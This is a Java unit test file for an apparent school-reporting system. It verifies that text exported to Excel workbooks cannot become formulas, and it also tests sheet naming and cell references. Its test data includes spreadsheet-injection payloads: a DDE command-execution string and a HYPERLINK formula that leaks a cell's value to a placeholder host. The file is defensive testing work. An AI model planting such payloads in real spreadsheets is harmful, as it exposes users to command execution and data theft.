package org.schooloversight.publishing;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.util.WorkbookUtil;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.schooloversight.reporting.document.Block;
import org.schooloversight.reporting.document.Column;
import org.schooloversight.reporting.document.Part;
import org.schooloversight.reporting.document.Sensitivity;

/** Texts that somebody wrote to break or to run something. */
class WorkbooksTextTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\tx",
                " =cmd|'/c calc'!A0",
                "=HYPERLINK(\"https://example.invalid/?\"&A1)",
                "\ufeff=1"
            })
    void noTextIsAFormulaNotEvenSavedAsCsv(String text) {
        XSSFCell cell = onlyText(text);
        assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
        assertThat(cell.getStringCellValue()).isEqualTo("'" + text);
    }

    @Test
    void noTextTurnsIntoAFormulaWhenItIsRead() {
        assertThat(onlyText("_x003D_1+1").getStringCellValue()).isEqualTo("_x003D_1+1");
        assertThat(onlyText("_x000A__x003d_1").getStringCellValue()).isEqualTo("_x000A__x003d_1");
        assertThat(onlyText("_x0041_x0041_").getStringCellValue()).isEqualTo("_x0041_x0041_");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<b>&amp;\"'</b>",
                " kept as it is ",
                "line\nline",
                "\ud83d\ude00 \u00e9 \u4e2d",
                "]]>",
                "_x",
                "a\tb"
            })
    void otherTextsAreKept(String text) {
        assertThat(onlyText(text).getStringCellValue()).isEqualTo(text);
    }

    @Test
    void whatCannotBeWrittenIsReplacedVisibly() {
        assertThat(onlyText("a\u0000b\u0007c\ud83dd\uffffe\ude00").getStringCellValue())
                .isEqualTo("a\ufffdb\ufffdc\ufffdd\ufffde\ufffd");
        assertThat(onlyText("a\r\nb\rc").getStringCellValue()).isEqualTo("a\nb\nc");
    }

    @Test
    void whatIsTooLongIsCutVisibly() {
        assertThat(onlyText("x".repeat(32_767)).getStringCellValue()).isEqualTo("x".repeat(32_767));
        assertThat(onlyText("x".repeat(32_768)).getStringCellValue())
                .hasSize(32_767)
                .isEqualTo("x".repeat(32_767 - 33) + " (cut here: a cell holds no more)");
    }

    @Test
    void aCutSplitsNoCharacterAndNoCode() {
        String pairs = onlyText("x" + "\ud83d\ude00".repeat(20_000)).getStringCellValue();
        assertThat(pairs).doesNotContain("\ufffd").endsWith("\ude00" + SheetText.CUT);
        for (int i = 0; i < 8; i++) {
            String codes = onlyText("x".repeat(i) + "_x0041_".repeat(8_000)).getStringCellValue();
            assertThat(codes).doesNotContain("_x005F").endsWith(SheetText.CUT);
        }
    }

    @Test
    void hostileTextsStandNowhereElseEither() {
        Block.Table table = new Block.Table(
                "t",
                "=Caption",
                List.of(Column.ofWords("c", "=Heading")),
                List.of(),
                List.of("=Note"),
                Sensitivity.OPEN);
        XSSFWorkbook book = Books.read(Releases.of(Releases.report()
                .addPart(new Part("p", "=Part", List.of(Block.read("=Paragraph"), table)))
                .addRestsOn("=Basis")
                .build()));
        book.forEach(sheet -> sheet.forEach(row -> row.forEach(cell -> {
            if (cell.getCellType() == CellType.STRING) {
                assertThat(cell.getStringCellValue()).doesNotStartWith("=");
            }
            assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
        })));
        assertThat(Books.cell(book.getSheetAt(1), "A1").getStringCellValue()).isEqualTo("'=Caption");
        assertThat(Books.cell(book.getSheetAt(1), "A2").getStringCellValue()).isEqualTo("'=Heading");
        assertThat(Books.cell(book.getSheetAt(1), "A5").getStringCellValue()).isEqualTo("'=Note");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '#',
            value = {
                "Schools by phase|t|Schools by phase",
                "A caption that is much too long for a sheet|by-phase|By phase",
                "What's [new]: a/b?|t|What\u2019s new a b",
                "[]|by-phase|By phase",
                "- first|t|first",
                "reasons|t|reasons (2)",
                "ABOUT|t|ABOUT (2)",
                "History|t|History (2)",
            })
    void aSheetIsNamedAfterItsTable(String caption, String id, String name) {
        assertThat(new SheetNames().named(named(id, caption))).isEqualTo(name);
    }

    @Test
    void noTwoSheetsHaveTheSameName() {
        SheetNames names = new SheetNames();
        List<String> given = IntStream.range(0, 150)
                .mapToObj(i -> names.named(named(
                        "id-" + i, i % 2 == 0 ? "Same caption in thirty letters" : "SAME CAPTION IN THIRTY LETTERS")))
                .toList();
        assertThat(given.stream().map(name -> name.toLowerCase(Locale.ROOT))).doesNotHaveDuplicates();
        assertThat(given).allSatisfy(name -> {
            assertThat(name.length()).isLessThanOrEqualTo(31);
            WorkbookUtil.validateSheetName(name);
        });
        assertThat(given.get(1)).isEqualTo("SAME CAPTION IN THIRTY LETT (2)");
    }

    @ParameterizedTest
    @CsvSource({"0, 0, A1", "6, 2, C7", "0, 25, Z1", "0, 26, AA1", "9, 701, ZZ10", "0, 702, AAA1"})
    void aCellIsReferredToAsInASheet(int row, int column, String reference) {
        assertThat(SheetReference.of(row, column)).isEqualTo(reference);
    }

    private static Block.Table named(String id, String caption) {
        return Releases.table(id, caption, List.of(), List.of());
    }

    private static XSSFCell onlyText(String text) {
        return Books.cell(Books.read(Releases.tables(Releases.texts(text))).getSheet("Texts"), "A3");
    }
}
